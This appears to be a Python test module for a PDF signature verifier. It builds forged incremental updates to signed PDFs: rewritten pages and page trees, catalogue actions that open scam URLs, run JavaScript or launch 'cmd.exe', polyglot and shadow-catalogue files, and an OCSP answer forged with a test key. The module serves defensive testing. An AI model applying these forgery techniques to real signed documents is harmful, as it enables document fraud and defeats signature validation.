"""Everything else that an update can change: the tree of pages, a page's own entries, the catalogue, actions, proofs.

Sources: ISO 32000-2 §7.7 (catalogue, pages), §12.6 (actions), §12.8.4.3 (security store), §12.8.5 (document timestamp);
ETSI EN 319 142-1 §5.4, §5.5.
"""

import io
from datetime import timedelta

import pikepdf
from asn1crypto import x509
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import MDPPerm
from pyhanko.sign.signers import PdfTimeStamper
from pyhanko.sign.validation.dss import DocumentSecurityStore

from app.core.clock import now
from tests.attacks import workshop
from tests.attacks.catalogue import forgery
from tests.attacks.workshop import changed, page_of, scam_content, scam_page, stream, thing
from tests.verification.corpus import Tsa, overlay

PAGES, CATALOGUE, FILE, PROOFS = "Pages", "Catalogue", "Fichier", "Preuves"


def page_edit(edit):
    def change(writer):
        page = page_of(writer).get_object()
        edit(writer, page)
        writer.update_container(page)

    return lambda shop: changed(shop.base, change)


def entries(**values):
    def edit(_writer, page):
        for key, value in values.items():
            page[f"/{key}"] = thing(value)

    return edit


def more_content(*, first: bool = False):
    def edit(writer, page):
        own = page.raw_get("/Contents")
        more = stream(writer, scam_content())
        page["/Contents"] = thing([more, own] if first else [own, more])
        page["/Resources"]["/Font"]["/F9"] = thing(workshop.HELVETICA["F9"])
        writer.update_container(page["/Resources"]["/Font"])

    return edit


def same_stream(writer, page):
    found = page["/Contents"]
    found._data, found._encoded_data = scam_content(), None
    writer.update_container(found)
    page["/Resources"]["/Font"]["/F9"] = thing(workshop.HELVETICA["F9"])
    writer.update_container(page["/Resources"]["/Font"])


def other_resources(_writer, page):
    page["/Resources"] = thing({"Font": workshop.HELVETICA})


def no_content(_writer, page):
    del page["/Contents"]


def cut_fonts(writer, page):
    page["/Resources"]["/Font"] = thing({})
    writer.update_container(page["/Resources"])


def no_annotations(_writer, page):
    del page["/Annots"]


PAGE_EDITS = {
    "content added after its own": more_content(),
    "content added before its own": more_content(first=True),
    "content's stream rewritten": same_stream,
    "content replaced": lambda writer, _page: scam_page(writer),
    "content taken away": no_content,
    "resources replaced": other_resources,
    "fonts taken away": cut_fonts,
    "turned by a quarter": entries(Rotate=90),
    "upside down": entries(Rotate=180),
    "cropped": entries(CropBox=[0, 400, 595, 500]),
    "media box moved": entries(MediaBox=[0, 421, 595, 1263]),
    "trim box": entries(TrimBox=[100, 400, 300, 500]),
    "unit of another size": entries(UserUnit=10.0),
    "an action when it opens": entries(AA={"O": {"S": "/URI", "URI": "https://escroc.example"}}),
    "a transition": entries(Trans={"S": "/Blinds"}, Dur=1),
    "a thumbnail": lambda writer, page: page.__setitem__("/Thumb", stream(writer, b"\0", Width=1, Height=1)),
    "annotations taken away": no_annotations,
    "a transparency group": entries(Group={"S": "/Transparency", "CS": "/DeviceGray", "K": True}),
}
for _variant, _edit in PAGE_EDITS.items():
    forgery(PAGES, f"page: {_variant}")(page_edit(_edit))


def tree_edit(edit):
    def change(writer):
        edit(writer, writer.root["/Pages"])
        writer.update_container(writer.root["/Pages"])

    return lambda shop: changed(shop.base, change)


def new_page(writer):
    return writer.add_object(
        thing(
            {
                "Type": "/Page",
                "Parent": writer.root.raw_get("/Pages"),
                "MediaBox": [0, 0, 595, 842],
                "Contents": stream(writer, scam_content()),
                "Resources": {"Font": workshop.HELVETICA},
            }
        )
    )


def set_kids(order):
    def edit(writer, tree):
        kids = [tree["/Kids"].raw_get(rank) for rank in range(len(tree["/Kids"]))]
        made = order(writer, kids)
        tree["/Kids"], tree["/Count"] = thing(made), thing(len(made))

    return edit


def nested(writer, tree):
    scam = new_page(writer)
    inner = thing({"Type": "/Pages", "Count": 1, "Kids": [scam], "Parent": writer.root.raw_get("/Pages")})
    tree["/Kids"] = thing([writer.add_object(inner), tree["/Kids"].raw_get(1)])


TREE_EDITS = {
    "in another order": set_kids(lambda _writer, kids: kids[::-1]),
    "one taken away": set_kids(lambda _writer, kids: kids[:1]),
    "one added": set_kids(lambda writer, kids: [*kids, new_page(writer)]),
    "the first replaced": set_kids(lambda writer, kids: [new_page(writer), *kids[1:]]),
    "the first shown twice": set_kids(lambda _writer, kids: [kids[0], *kids]),
    "a branch in the place of the first": nested,
    "turned by their tree": lambda _writer, tree: tree.__setitem__("/Rotate", thing(180)),
    "cropped by their tree": lambda _writer, tree: tree.__setitem__("/CropBox", thing([0, 400, 595, 500])),
    "fewer counted than there are": lambda _writer, tree: tree.__setitem__("/Count", thing(1)),
}
for _variant, _edit in TREE_EDITS.items():
    forgery(PAGES, f"tree: {_variant}")(tree_edit(_edit))


@forgery(PAGES, "page: content rewritten, then the security store added")
def with_store(shop):
    data = changed(shop.base, scam_page)
    return stored(data, certs=[x509.Certificate.load(shop.pki.certificate("interm"))])


@forgery(PAGES, "a drawing laid over by pyHanko itself, two signers")
def drawn_over_two(shop):
    return changed(shop.corpus.two({"level": "B-B"}, {"level": "B-B"}), overlay)


@forgery(PAGES, "page rewritten between two signers", victim="Signature1")
def between(shop):
    data = changed(shop.base, scam_page)
    return shop.corpus.signed("b_cadiou", "B-B", data=data, field="Signature2")


# The catalogue


def root_edit(**values):
    def change(writer):
        for key, value in values.items():
            writer.root[f"/{key}"] = thing(value)
        writer.update_root()

    return lambda shop: changed(shop.base, change)


SCRIPT = {"S": "/JavaScript", "JS": "app.alert('999 000')"}
CATALOGUES = {
    "opens a site": {"OpenAction": {"S": "/URI", "URI": "https://escroc.example"}},
    "runs a script when it opens": {"OpenAction": SCRIPT},
    "runs a program when it opens": {"OpenAction": {"S": "/Launch", "F": "cmd.exe"}},
    "sends the form when it opens": {"OpenAction": {"S": "/SubmitForm", "F": "https://escroc.example"}},
    "goes to another page when it opens": {"OpenAction": {"S": "/Named", "N": "/LastPage"}},
    "runs a script when it prints": {"AA": {"WP": SCRIPT}},
    "scripts by name": {"Names": {"JavaScript": {"Names": ["a", SCRIPT]}}},
    "a file embedded": {
        "Names": {"EmbeddedFiles": {"Names": ["a.exe", {"Type": "/Filespec", "F": "a.exe"}]}}
    },
    "an associated file": {"AF": [{"Type": "/Filespec", "F": "facture.xml"}]},
    "a portfolio": {"Collection": {"Type": "/Collection", "View": "/H"}},
    "another language": {"Lang": "br"},
    "other labels for pages": {"PageLabels": {"Nums": [0, {"S": "/D", "St": 900}]}},
    "other bookmarks": {"Outlines": {"Type": "/Outlines", "Count": 0}},
    "other preferences": {"ViewerPreferences": {"HideToolbar": True, "Direction": "/R2L"}},
    "another page mode": {"PageMode": "/FullScreen"},
    "layers that were not there": {"OCProperties": {"OCGs": [], "D": {}}},
    "a structure that says other words": {
        "StructTreeRoot": {"Type": "/StructTreeRoot", "K": {"S": "/P", "ActualText": workshop.SCAM}},
        "MarkInfo": {"Marked": True},
    },
    "destinations": {"Dests": {"a": [0, "/Fit"]}},
    "a base for addresses": {"URI": {"Base": "https://escroc.example"}},
    "permissions of a usage right": {"Perms": {"UR3": {"Type": "/Sig"}}},
    "other output intents": {"OutputIntents": []},
}
for _variant, _values in CATALOGUES.items():
    forgery(CATALOGUE, _variant)(root_edit(**_values))


@forgery(CATALOGUE, "XFA in the form")
def xfa(shop):
    def change(writer):
        writer.root["/AcroForm"]["/XFA"] = stream(writer, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        writer.update_container(writer.root["/AcroForm"])

    return changed(shop.base, change)


@forgery(CATALOGUE, "the form says that nothing is signed")
def sig_flags(shop):
    def change(writer):
        writer.root["/AcroForm"]["/SigFlags"] = thing(0)
        writer.update_container(writer.root["/AcroForm"])

    return changed(shop.base, change)


@forgery(CATALOGUE, "the form taken away")
def no_form(shop):
    def change(writer):
        del writer.root["/AcroForm"]
        writer.update_root()

    return changed(shop.base, change)


@forgery(CATALOGUE, "the form's list of fields emptied")
def no_fields(shop):
    def change(writer):
        writer.root["/AcroForm"]["/Fields"] = thing([])
        writer.update_container(writer.root["/AcroForm"])
        scam_page(writer)

    return changed(shop.base, change)


@forgery(CATALOGUE, "a second catalogue whose pages are others")
def second_catalogue(shop):
    """The trailer names another catalogue, which keeps the form and shows other pages."""
    data = shop.base
    objects = workshop.scam_objects(data)
    found = workshop.layout(data)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        form = pdf.Root.AcroForm.unparse()
    page, tree, root = found.size + 40, found.size + 41, found.size + 42
    made = {
        max(objects): objects[max(objects)],
        page: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << /Font << /F9 "
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold >> >> >> >>" % (tree, max(objects)),
        tree: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % page,
        root: b"<< /Type /Catalog /Pages %d 0 R /AcroForm %b >>" % (tree, form),
    }
    whole = workshop.appended(data, made)
    return whole[: len(data)] + whole[len(data) :].replace(
        b"/Root %d 0 R" % found.root, b"/Root %d 0 R" % root
    )


# The file itself


@forgery(FILE, "one letter of the signed part")
def one_letter(shop):
    data = shop.base
    at = data.index(b"/Producer") + 12
    return data[:at] + bytes((data[at] ^ 1,)) + data[at + 1 :]


@forgery(FILE, "header rewritten")
def header(shop):
    return shop.base.replace(b"%PDF-1.", b"%PDF-2.", 1)


def rubbish_before(shop):
    return b"HTTP/1.1 200 OK\r\n\r\n" + shop.base


@forgery(FILE, "another header before it")
def two_headers(shop):
    return b"%PDF-1.4\n%autre\n" + shop.base


@forgery(FILE, "a whole other PDF before it")
def polyglot(shop):
    return shop.prepared(lambda pdf: pdf.pages.__delitem__(1)) + shop.base


@forgery(FILE, "a whole other PDF after it")
def other_after(shop):
    scam = shop.prepared(lambda pdf: pdf.pages[0].__setattr__("Contents", pdf.make_stream(scam_content())))
    return shop.base + scam


@forgery(FILE, "a whole other PDF after it, no end of file")
def other_after_no_end(shop):
    return other_after(shop).rstrip().removesuffix(b"%%EOF")


@forgery(FILE, "a picture after it that is a PDF too")
def rubbish_after(shop):
    return shop.base + b"\xff\xd8\xff\xe0" + b"%PDF-1.4 1 0 obj << >> endobj"


@forgery(FILE, "cut short")
def cut(shop):
    return shop.base[:-30]


@forgery(FILE, "rewritten whole by another program")
def rewritten(shop):
    return workshop.resaved(shop.base)


@forgery(FILE, "rewritten whole, linearised")
def linearised(shop):
    return workshop.resaved(shop.base, linearize=True)


@forgery(FILE, "encryption announced by an update")
def encryption(shop):
    data = shop.base
    objects = workshop.scam_objects(data)
    lock = b"/Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O (%b) /U (%b) >> /ID [(a) (a)]" % (
        b"o" * 32,
        b"u" * 32,
    )
    return workshop.appended(data, objects, more=lock)


@forgery(FILE, "identity encryption announced by an update, no end of file")
def identity_encryption(shop):
    data = shop.base
    lock = b"/Encrypt << /Filter /Standard /V 4 /R 4 /CF << >> /StmF /Identity /StrF /Identity /P -4 /O (o) /U (u) >>"
    return workshop.appended(data, workshop.scam_objects(data), b"", lock)


@forgery(FILE, "the encryption of an encrypted one taken away by an update")
def decrypted(shop):
    data = shop.once("encrypted", lambda: shop.corpus.encrypted(""))
    tail = b"xref\n0 0\n" + workshop.trailer(data, workshop.layout(data).size)
    return data + tail + b"startxref\n%d\n%%%%EOF\n" % len(data)


@forgery(FILE, "page rewritten in an encrypted one, no end of file")
def encrypted_isa(shop):
    data = shop.once("encrypted", lambda: shop.corpus.encrypted(""))
    return workshop.appended(data, workshop.scam_objects(data), b"")


@forgery(FILE, "signed a second time without what is above", victim="Signature1")
def removed_and_signed(shop):
    """The signed file rewritten by a program that keeps the dictionary, then signed by somebody else."""
    return shop.corpus.signed("b_cadiou", "B-B", data=workshop.resaved(shop.base), field="Signature2")


# Proofs put into the file


def stored(data: bytes, **proofs) -> bytes:
    out = io.BytesIO(data)
    DocumentSecurityStore.add_dss(out, None, force_write=True, **proofs)
    return out.getvalue()


@forgery(PROOFS, "security store with an authority of the forger's")
def fake_authority(shop):
    """The file brings the certificate of an authority that vouches for its signer."""
    data = shop.stamped(label="foreign_root")
    return stored(data, certs=[x509.Certificate.load(shop.pki.certificate("foreign"))])


@forgery(PROOFS, "old answer kept for a certificate revoked since")
def old_answer(shop):
    return shop.corpus.with_old_answer(shop.corpus.signed("revoked"), "revoked", now() - timedelta(days=40))


@forgery(PROOFS, "old answer kept, the authority silent", silent=True)
def old_answer_silent(shop):
    return old_answer(shop)


@forgery(PROOFS, "old answer kept and timestamped, the authority silent", silent=True)
def old_answer_archived(shop):
    return shop.corpus.with_old_answer(
        shop.corpus.signed("revoked"), "revoked", now() - timedelta(days=40), archived=True
    )


@forgery(PROOFS, "answer signed by the forger, the authority silent", silent=True)
def forged_answer(shop):
    """An OCSP answer for the revoked certificate, signed by the key of the certificate itself."""
    from asn1crypto import ocsp
    from cryptography import x509 as c509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.x509 import ocsp as c_ocsp

    own = c509.load_der_x509_certificate(shop.pki.certificate("revoked"))
    issuer = c509.load_der_x509_certificate(shop.pki.certificate("interm"))
    key = serialization.load_pem_private_key((shop.pki.folder / "keys" / "a_kervadec.pem").read_bytes(), None)
    answer = (
        c_ocsp.OCSPResponseBuilder()
        .add_response(
            own,
            issuer,
            hashes.SHA1(),
            c_ocsp.OCSPCertStatus.GOOD,
            now(),
            now() + timedelta(days=300),
            None,
            None,
        )
        .responder_id(c_ocsp.OCSPResponderEncoding.HASH, own)
        .certificates([own])
        .sign(key, hashes.SHA256())
    )
    made = ocsp.OCSPResponse.load(answer.public_bytes(serialization.Encoding.DER))
    return stored(shop.corpus.signed("revoked"), ocsps=[made])


@forgery(PROOFS, "answer about another certificate, the authority silent", silent=True)
def other_answer(shop):
    """The true « good » of b_cadiou kept for the revoked certificate of a_kervadec."""
    data = shop.corpus.signed("revoked")
    return shop.corpus.with_old_answer(data, "b_cadiou", now())


def timestamped(shop, data: bytes, tsa=None) -> bytes:
    import asyncio

    out = io.BytesIO()
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    asyncio.run(PdfTimeStamper(tsa or Tsa(shop.pki)).async_timestamp_pdf(writer, "sha256", output=out))
    return out.getvalue()


@forgery(PROOFS, "page rewritten, then a document timestamp over it")
def stamped_after(shop):
    return timestamped(shop, changed(shop.base, scam_page))


@forgery(PROOFS, "field over the page, then a document timestamp over it")
def stamped_after_field(shop):
    from tests.attacks.pdf_fields import new_field

    return timestamped(shop, changed(shop.base, new_field(FT="/Sig")))


@forgery(PROOFS, "page rewritten under an archive")
def under_archive(shop):
    return changed(shop.once("LTA", lambda: shop.stamped(level="B-LTA")), scam_page)


@forgery(PROOFS, "field over the page of an archive")
def field_over_archive(shop):
    from tests.attacks.pdf_fields import new_field

    return changed(shop.once("LTA", lambda: shop.stamped(level="B-LTA")), new_field(FT="/Sig"))


@forgery(PROOFS, "page rewritten in an archive, no end of file")
def archive_no_end(shop):
    data = shop.once("LTA", lambda: shop.stamped(level="B-LTA"))
    return workshop.appended(data, workshop.scam_objects(data), b"")


@forgery(PROOFS, "a page's content hidden in the security store, then shown")
def in_store(shop):
    """The store is allowed to grow: what it holds becomes the content of the page."""
    data = shop.base

    def change(writer):
        content = stream(writer, scam_content())
        writer.root["/DSS"] = thing({"Certs": [content]})
        page = page_of(writer).get_object()
        page["/Contents"] = content
        writer.update_container(page)
        writer.update_root()

    return changed(data, change)


@forgery(PROOFS, "certified without any change, then the page rewritten with a security store")
def certified_store(shop):
    data = shop.once("closed", lambda: shop.stamped(certify=MDPPerm.NO_CHANGES))
    return stored(changed(data, scam_page), certs=[x509.Certificate.load(shop.pki.certificate("interm"))])
